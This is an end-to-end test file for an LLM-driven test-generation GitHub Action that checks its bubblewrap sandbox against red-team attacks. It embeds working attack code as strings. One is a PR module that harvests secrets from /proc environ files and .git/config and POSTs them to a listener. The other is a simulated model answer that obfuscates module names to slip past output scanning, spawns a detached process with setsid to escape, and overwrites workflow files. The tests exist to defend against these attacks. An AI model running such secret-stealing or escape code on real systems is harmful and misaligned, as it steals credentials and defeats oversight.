import { afterEach, describe, expect, it } from '@jest/globals'
import { randomUUID } from 'node:crypto'
import { existsSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { ReportSchema, type Report } from '../../src/report/report-schema.js'
import { currentIsolation } from '../../src/runner/isolation.js'
import { runActionProcess, type ActionRunResult } from '../helpers/action-env.js'
import { FakeOpenAiServer, fencedAnswer } from '../helpers/fake-openai-server.js'
import { processesWith, untilNone } from '../helpers/processes.js'
import { createScenario, finishScenario, PR, stickies, type Scenario } from './scenario.js'

/**
 * The red team's attacks (SECURITY 31-33, 35) against `node dist/index.js` the way the runner runs
 * it: a same-repo PR whose module reads every /proc/<pid>/environ, its ancestors' and .git/config,
 * posts what it found to a listener on 127.0.0.1 and leaves `setsid env -i sh -c 'sleep …&'`
 * behind; a model answer that reaches fetch and http through indirection, builds its /proc paths at
 * run time and writes outside its test file. The secrets are where the runner puts them: the
 * inputs and ACTIONS_RUNTIME_TOKEN in the action's environ, an extraheader token in .git/config.
 * CI has bubblewrap (the runner tests fail there without it), so these run the real sandbox.
 */

const FAST = { depth: 'low', 'stability-runs': '1', 'max-healing-rounds': '1' }
const sandboxed = currentIsolation().mechanism === 'bubblewrap'
const itSandboxed = sandboxed ? it : it.skip

interface Listener {
  readonly server: Server
  readonly port: number
  readonly requests: string[]
}

async function startListener(): Promise<Listener> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`)
    response.end('ok')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, port: (server.address() as AddressInfo).port, requests }
}

/** What both attacks look for, by name only (the names survive any redaction of values). */
const LOOT_NAMES = ['INPUT_', 'ACTIONS_RUNTIME_TOKEN', 'ghs_', 'sk-e2e', 'extraheader']

/** PR code: runs at import, in the explorer's child and in every test that imports it. */
function prModule(port: number): string {
  return `import { readdirSync, readFileSync } from 'node:fs'

const proc = '/' + ['pr', 'oc'].join('')
const read = (file: string): string => {
  try {
    return readFileSync(file, 'utf8')
  } catch {
    return ''
  }
}
const pids = readdirSync(proc).filter((entry) => /^\\d+$/.test(entry))
const ancestors: string[] = []
for (let pid = String(process.pid); pid !== '0' && ancestors.length < 30; ) {
  ancestors.push(pid)
  pid = /PPid:\\s*(\\d+)/.exec(read(proc + '/' + pid + '/status'))?.[1] ?? '0'
}
const loot = [...pids, ...ancestors].map((pid) => read(proc + '/' + pid + '/environ')).join('\\n') +
  read('.git/config') + read('../.git/config')
const hits = ${JSON.stringify(LOOT_NAMES)}.filter((name) => loot.includes(name))
void fetch('http://127.0.0.1:${port}/pr-code', { method: 'POST', body: loot }).catch(() => undefined)

/** A branch the explorer is unlikely to reach, so the LLM is asked for this module too. */
export function gate(code: string): number {
  let hash = 7
  for (const char of code) hash = (hash * 31 + char.charCodeAt(0)) % 1_000_003
  if (hash === 424_242) {
    return 1
  }
  return 0
}

/** What the module's code found when it was loaded. */
export function leakedNames(): string {
  return 'found:' + (hits.length > 0 ? hits.join(',') : 'nothing')
}
`
}

/** The model's answer: indirection the output scan does not know, paths built at run time. */
function modelTest(port: number, sleeper: string): string {
  return `import { expect, it, vi } from 'vitest'

it('checks the module', async () => {
  const fs: any = await vi.importActual(['node:f', 's'].join(''))
  const http: any = await vi.importActual(['node:ht', 'tp'].join(''))
  const spawner: any = await vi.importActual(['node:child', '_process'].join(''))
  // Out of the process group and the environment: the escape the marker sweep cannot see.
  spawner.execSync("setsid env -i sh -c 'sleep ${sleeper} >/dev/null 2>&1 &'")
  const f = Reflect.get(globalThis, 'fe' + 'tch')
  const proc = '/' + ['pr', 'oc'].join('')
  const read = (file: string): string => {
    try {
      return fs.readFileSync(file, 'utf8')
    } catch {
      return ''
    }
  }
  const pids: string[] = fs.readdirSync(proc).filter((e: string) => /^\\d+$/.test(e))
  const loot = pids.map((pid) => read(proc + '/' + pid + '/environ')).join('') +
    read(['.', 'git/config'].join(''))
  const names: string[] = ${JSON.stringify(LOOT_NAMES.map((name) => name.split('')))}.map((c: string[]) => c.join(''))
  const found = names.filter((name) => loot.includes(name))
  const viaFetch = await f('http://127.0.0.1:${port}/model-fetch', { method: 'POST', body: loot }).then(
    () => 'reached',
    (e: any) => String(e?.cause?.code ?? e)
  )
  const viaHttp = await new Promise((resolve) => {
    const request = http.request({ host: '127.0.0.1', port: ${port}, path: '/model-http', method: 'POST' }, () => resolve('reached'))
    request.on('error', (e: any) => resolve(e.code))
    request.end(loot)
  })
  const writes: Record<string, string> = {}
  const targets = {
    workflow: ['.', 'github/workflows/x.yml'].join(''),
    outside: ['..', 'x'].join('/'),
    config: 'jest.config.js',
    vitestConfig: 'vitest.config.ts'
  }
  for (const [name, file] of Object.entries(targets)) {
    try {
      fs.mkdirSync(file.split('/').slice(0, -1).join('/') || '.', { recursive: true })
      fs.appendFileSync(file, 'pwned')
      writes[name] = 'written'
    } catch (e: any) {
      writes[name] = e.code
    }
  }
  expect(pids.length).toBeGreaterThan(0)
  throw new Error('sandbox probe ' + JSON.stringify({ pids: pids.length, found, viaFetch, viaHttp, writes }))
})
`
}

describe('action e2e: isolation of PR code and model-written code', () => {
  let scenario: Scenario | undefined
  let openai: FakeOpenAiServer | undefined
  let listener: Listener | undefined
  afterEach(async () => {
    const [current, server, ears] = [scenario, openai, listener]
    scenario = undefined
    openai = undefined
    listener = undefined
    if (ears) await new Promise((resolve) => ears.server.close(resolve))
    await finishScenario(current, server)
  })

  const readReport = async (result: ActionRunResult): Promise<Report> =>
    ReportSchema.parse(JSON.parse(await readFile(result.outputs['report-path'] ?? '', 'utf8')))

  itSandboxed(
    'SECURITY 31, 32, 33, 35: PR code and a model answer find no secret, send nothing, write nothing that stays, leave nothing running',
    async () => {
      listener = await startListener()
      const ears = listener
      const apiKey = `sk-e2e-${randomUUID()}`
      const runtimeToken = `runtime-${randomUUID()}`
      const checkoutToken = `ghs_checkout${randomUUID().replace(/-/g, '')}`
      const sleeper = `1000.${Date.now() % 1_000_000}${Math.floor(Math.random() * 1000)}`
      scenario = await createScenario()
      const s = scenario
      await s.dev.checkout('feature')
      await s.dev.commit('a module that looks around', {
        'src/leak.ts': prModule(ears.port)
      })
      await s.dev.git('push', '-q', 'origin', 'feature')
      // What actions/checkout leaves behind: the token as an extraheader in .git/config.
      await s.workspace.git(
        'config',
        'http.https://github.com/.extraheader',
        `AUTHORIZATION: basic ${checkoutToken}`
      )
      openai = await FakeOpenAiServer.start({
        script: () => ({ content: fencedAnswer(modelTest(ears.port, sleeper)) })
      })
      const vitestConfig = await readFile(join(s.workspace.dir, 'vitest.config.ts'), 'utf8')

      const result = await runActionProcess({
        workspace: s.workspace.dir,
        eventName: 'pull_request',
        payload: await s.pullRequestPayload('synchronize'),
        apiUrl: s.gh.url,
        baseEnv: s.sandbox.env,
        inputs: { ...FAST, 'api-key': apiKey, 'base-url': openai.baseUrl },
        extraEnv: { ACTIONS_RUNTIME_TOKEN: runtimeToken }
      })
      if (result.exitCode !== 0) console.log(result.stdout, result.stderr)
      expect(result.exitCode).toBe(0)
      const report = await readReport(result)
      expect(report.sandbox).toEqual({
        mechanism: 'bubblewrap',
        detail: expect.stringMatching(/^bubblewrap /)
      })

      // SECURITY 33: the model's test ran (its probe is the rejection reason) and gained nothing.
      const probes = report.modules
        .flatMap((m) => m.candidates)
        .filter((c) => c.strategy === 'llm' && c.verdict.status === 'rejected')
        .map((c) => (c.verdict.status === 'rejected' ? c.verdict.reason : ''))
        .filter((reason) => reason.includes('sandbox probe'))
      expect(probes.length).toBeGreaterThan(0)
      for (const reason of probes) {
        const probe = JSON.parse(/sandbox probe (\{.*?\}\})/.exec(reason)?.[1] ?? '{}') as {
          pids: number
          found: string[]
          viaFetch: string
          viaHttp: string
          writes: Record<string, string>
        }
        expect(probe.pids).toBeGreaterThan(0)
        expect(probe.found).toEqual([])
        expect(probe.viaFetch).toBe('ECONNREFUSED')
        expect(probe.viaHttp).toBe('ECONNREFUSED')
        expect(probe.writes).toMatchObject({
          // mkdir -p of .github/workflows on a read-only tree: EROFS, or ENOENT from Node's walk
          workflow: expect.stringMatching(/^(EROFS|ENOENT)$/),
          config: 'EROFS',
          vitestConfig: 'EROFS'
        })
      }
      // Nothing it wrote survived, in the workspace or beside it.
      expect(existsSync(join(s.workspace.dir, '.github', 'workflows', 'x.yml'))).toBe(false)
      expect(existsSync(join(s.workspace.dir, 'jest.config.js'))).toBe(false)
      expect(existsSync(join(s.sandbox.root, 'x'))).toBe(false)
      expect(await readFile(join(s.workspace.dir, 'vitest.config.ts'), 'utf8')).toBe(vitestConfig)

      // SECURITY 31: the PR module, loaded by the explorer and the tests, found nothing either:
      // the explorer's test of it records what it returned, and that went into the bot commit.
      const head = await s.remoteSha('refs/heads/feature')
      expect(result.outputs['commit-sha']).toBe(head)
      const files = (
        await s.dev.git('--git-dir', s.origin, 'show', '--name-only', '--format=', head)
      )
        .split('\n')
        .filter(Boolean)
      for (const file of files) expect(file).toMatch(/\.test\.ts$/)
      const committed = (
        await Promise.all(
          files.map((file) => s.dev.git('--git-dir', s.origin, 'show', `${head}:${file}`))
        )
      ).join('\n')
      expect(committed).toContain('leakedNames()')
      expect(committed).toContain('found:nothing')

      // SECURITY 32: the listener heard nothing from either.
      expect(ears.requests).toEqual([])

      // No secret anywhere that leaves the runner.
      const surfaces = {
        comment: stickies(s)[0]?.body ?? '',
        summary: result.summary,
        report: JSON.stringify(report),
        commit: committed,
        llmRequests: JSON.stringify(openai.log.map((e) => e.request.body)),
        // The log, but for the `::add-mask::` commands that tell the runner what to mask.
        log: result.stdout
          .split('\n')
          .filter((line) => !line.startsWith('::add-mask::'))
          .join('\n')
      }
      for (const [surface, text] of Object.entries(surfaces)) {
        for (const secret of [apiKey, runtimeToken, checkoutToken, 'ghs_e2e_token_value'])
          expect({ surface, leaked: text.includes(secret) }).toEqual({ surface, leaked: false })
      }
      expect(surfaces.comment).toContain('sandbox: bubblewrap')
      expect(surfaces.summary).toContain('sandbox: bubblewrap')

      // SECURITY 35: the sleeper that left the session and the environment is gone.
      expect(await untilNone(() => processesWith(sleeper))).toEqual([])
    }
  )

  it('without a sandbox, a same-repo PR runs and the comment says plainly that nothing was isolated', async () => {
    scenario = await createScenario()
    const result = await runActionProcess({
      workspace: scenario.workspace.dir,
      eventName: 'pull_request',
      payload: await scenario.pullRequestPayload('opened'),
      apiUrl: scenario.gh.url,
      baseEnv: scenario.sandbox.env,
      inputs: FAST,
      extraEnv: { TESTMASTER_ISOLATION: 'none' }
    })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain(
      '::warning::The tests run without a sandbox: turned off (TESTMASTER_ISOLATION=none).'
    )
    const report = await readReport(result)
    expect(report.sandbox).toEqual({
      mechanism: 'none',
      detail: 'turned off (TESTMASTER_ISOLATION=none)'
    })
    expect(report.totals.accepted).toBeGreaterThan(0)
    const body = stickies(scenario)[0]?.body ?? ''
    expect(body).toContain('> ⚠️ The tests ran without a sandbox')
    expect(result.summary).toContain('> ⚠️ The tests ran without a sandbox')
  })

  it('without a sandbox, a maintainer command on a fork PR with allow-forks refuses to start', async () => {
    openai = await FakeOpenAiServer.start({ script: [{ content: 'no code' }] })
    scenario = await createScenario({ fork: true, config: 'github:\n  allow-forks: true\n' })
    scenario.gh.setPermission('maintainer', 'write')
    const refsBefore = await scenario.dev.git(
      '--git-dir',
      scenario.origin,
      'for-each-ref',
      '--format=%(refname) %(objectname)'
    )
    const result = await runActionProcess({
      workspace: scenario.workspace.dir,
      eventName: 'issue_comment',
      payload: scenario.commentPayload('/testmaster regenerate', {}),
      apiUrl: scenario.gh.url,
      baseEnv: scenario.sandbox.env,
      inputs: { ...FAST, 'api-key': 'sk-e2e-fork', 'base-url': openai.baseUrl },
      extraEnv: { TESTMASTER_ISOLATION: 'none' }
    })
    expect(result.exitCode).not.toBe(0)
    const refusal =
      'TestMaster refuses to run: github.allow-forks runs fork code with the repository secrets; the LLM would run on a fork PR with the API key present, and no sandbox is available to keep the secrets from that code (turned off (TESTMASTER_ISOLATION=none)).'
    expect(result.stdout).toContain(refusal)
    expect(result.summary).toContain(refusal)
    const replies = scenario.gh
      .commentsOn(PR)
      .filter((c) => c.body.startsWith('TestMaster refuses'))
    expect(replies).toHaveLength(1)
    expect(openai.requestCount).toBe(0)
    expect(
      await scenario.dev.git(
        '--git-dir',
        scenario.origin,
        'for-each-ref',
        '--format=%(refname) %(objectname)'
      )
    ).toBe(refsBefore)
    expect(scenario.gh.reactions.map((r) => r.content)).toEqual(['eyes', 'confused'])
  })
})
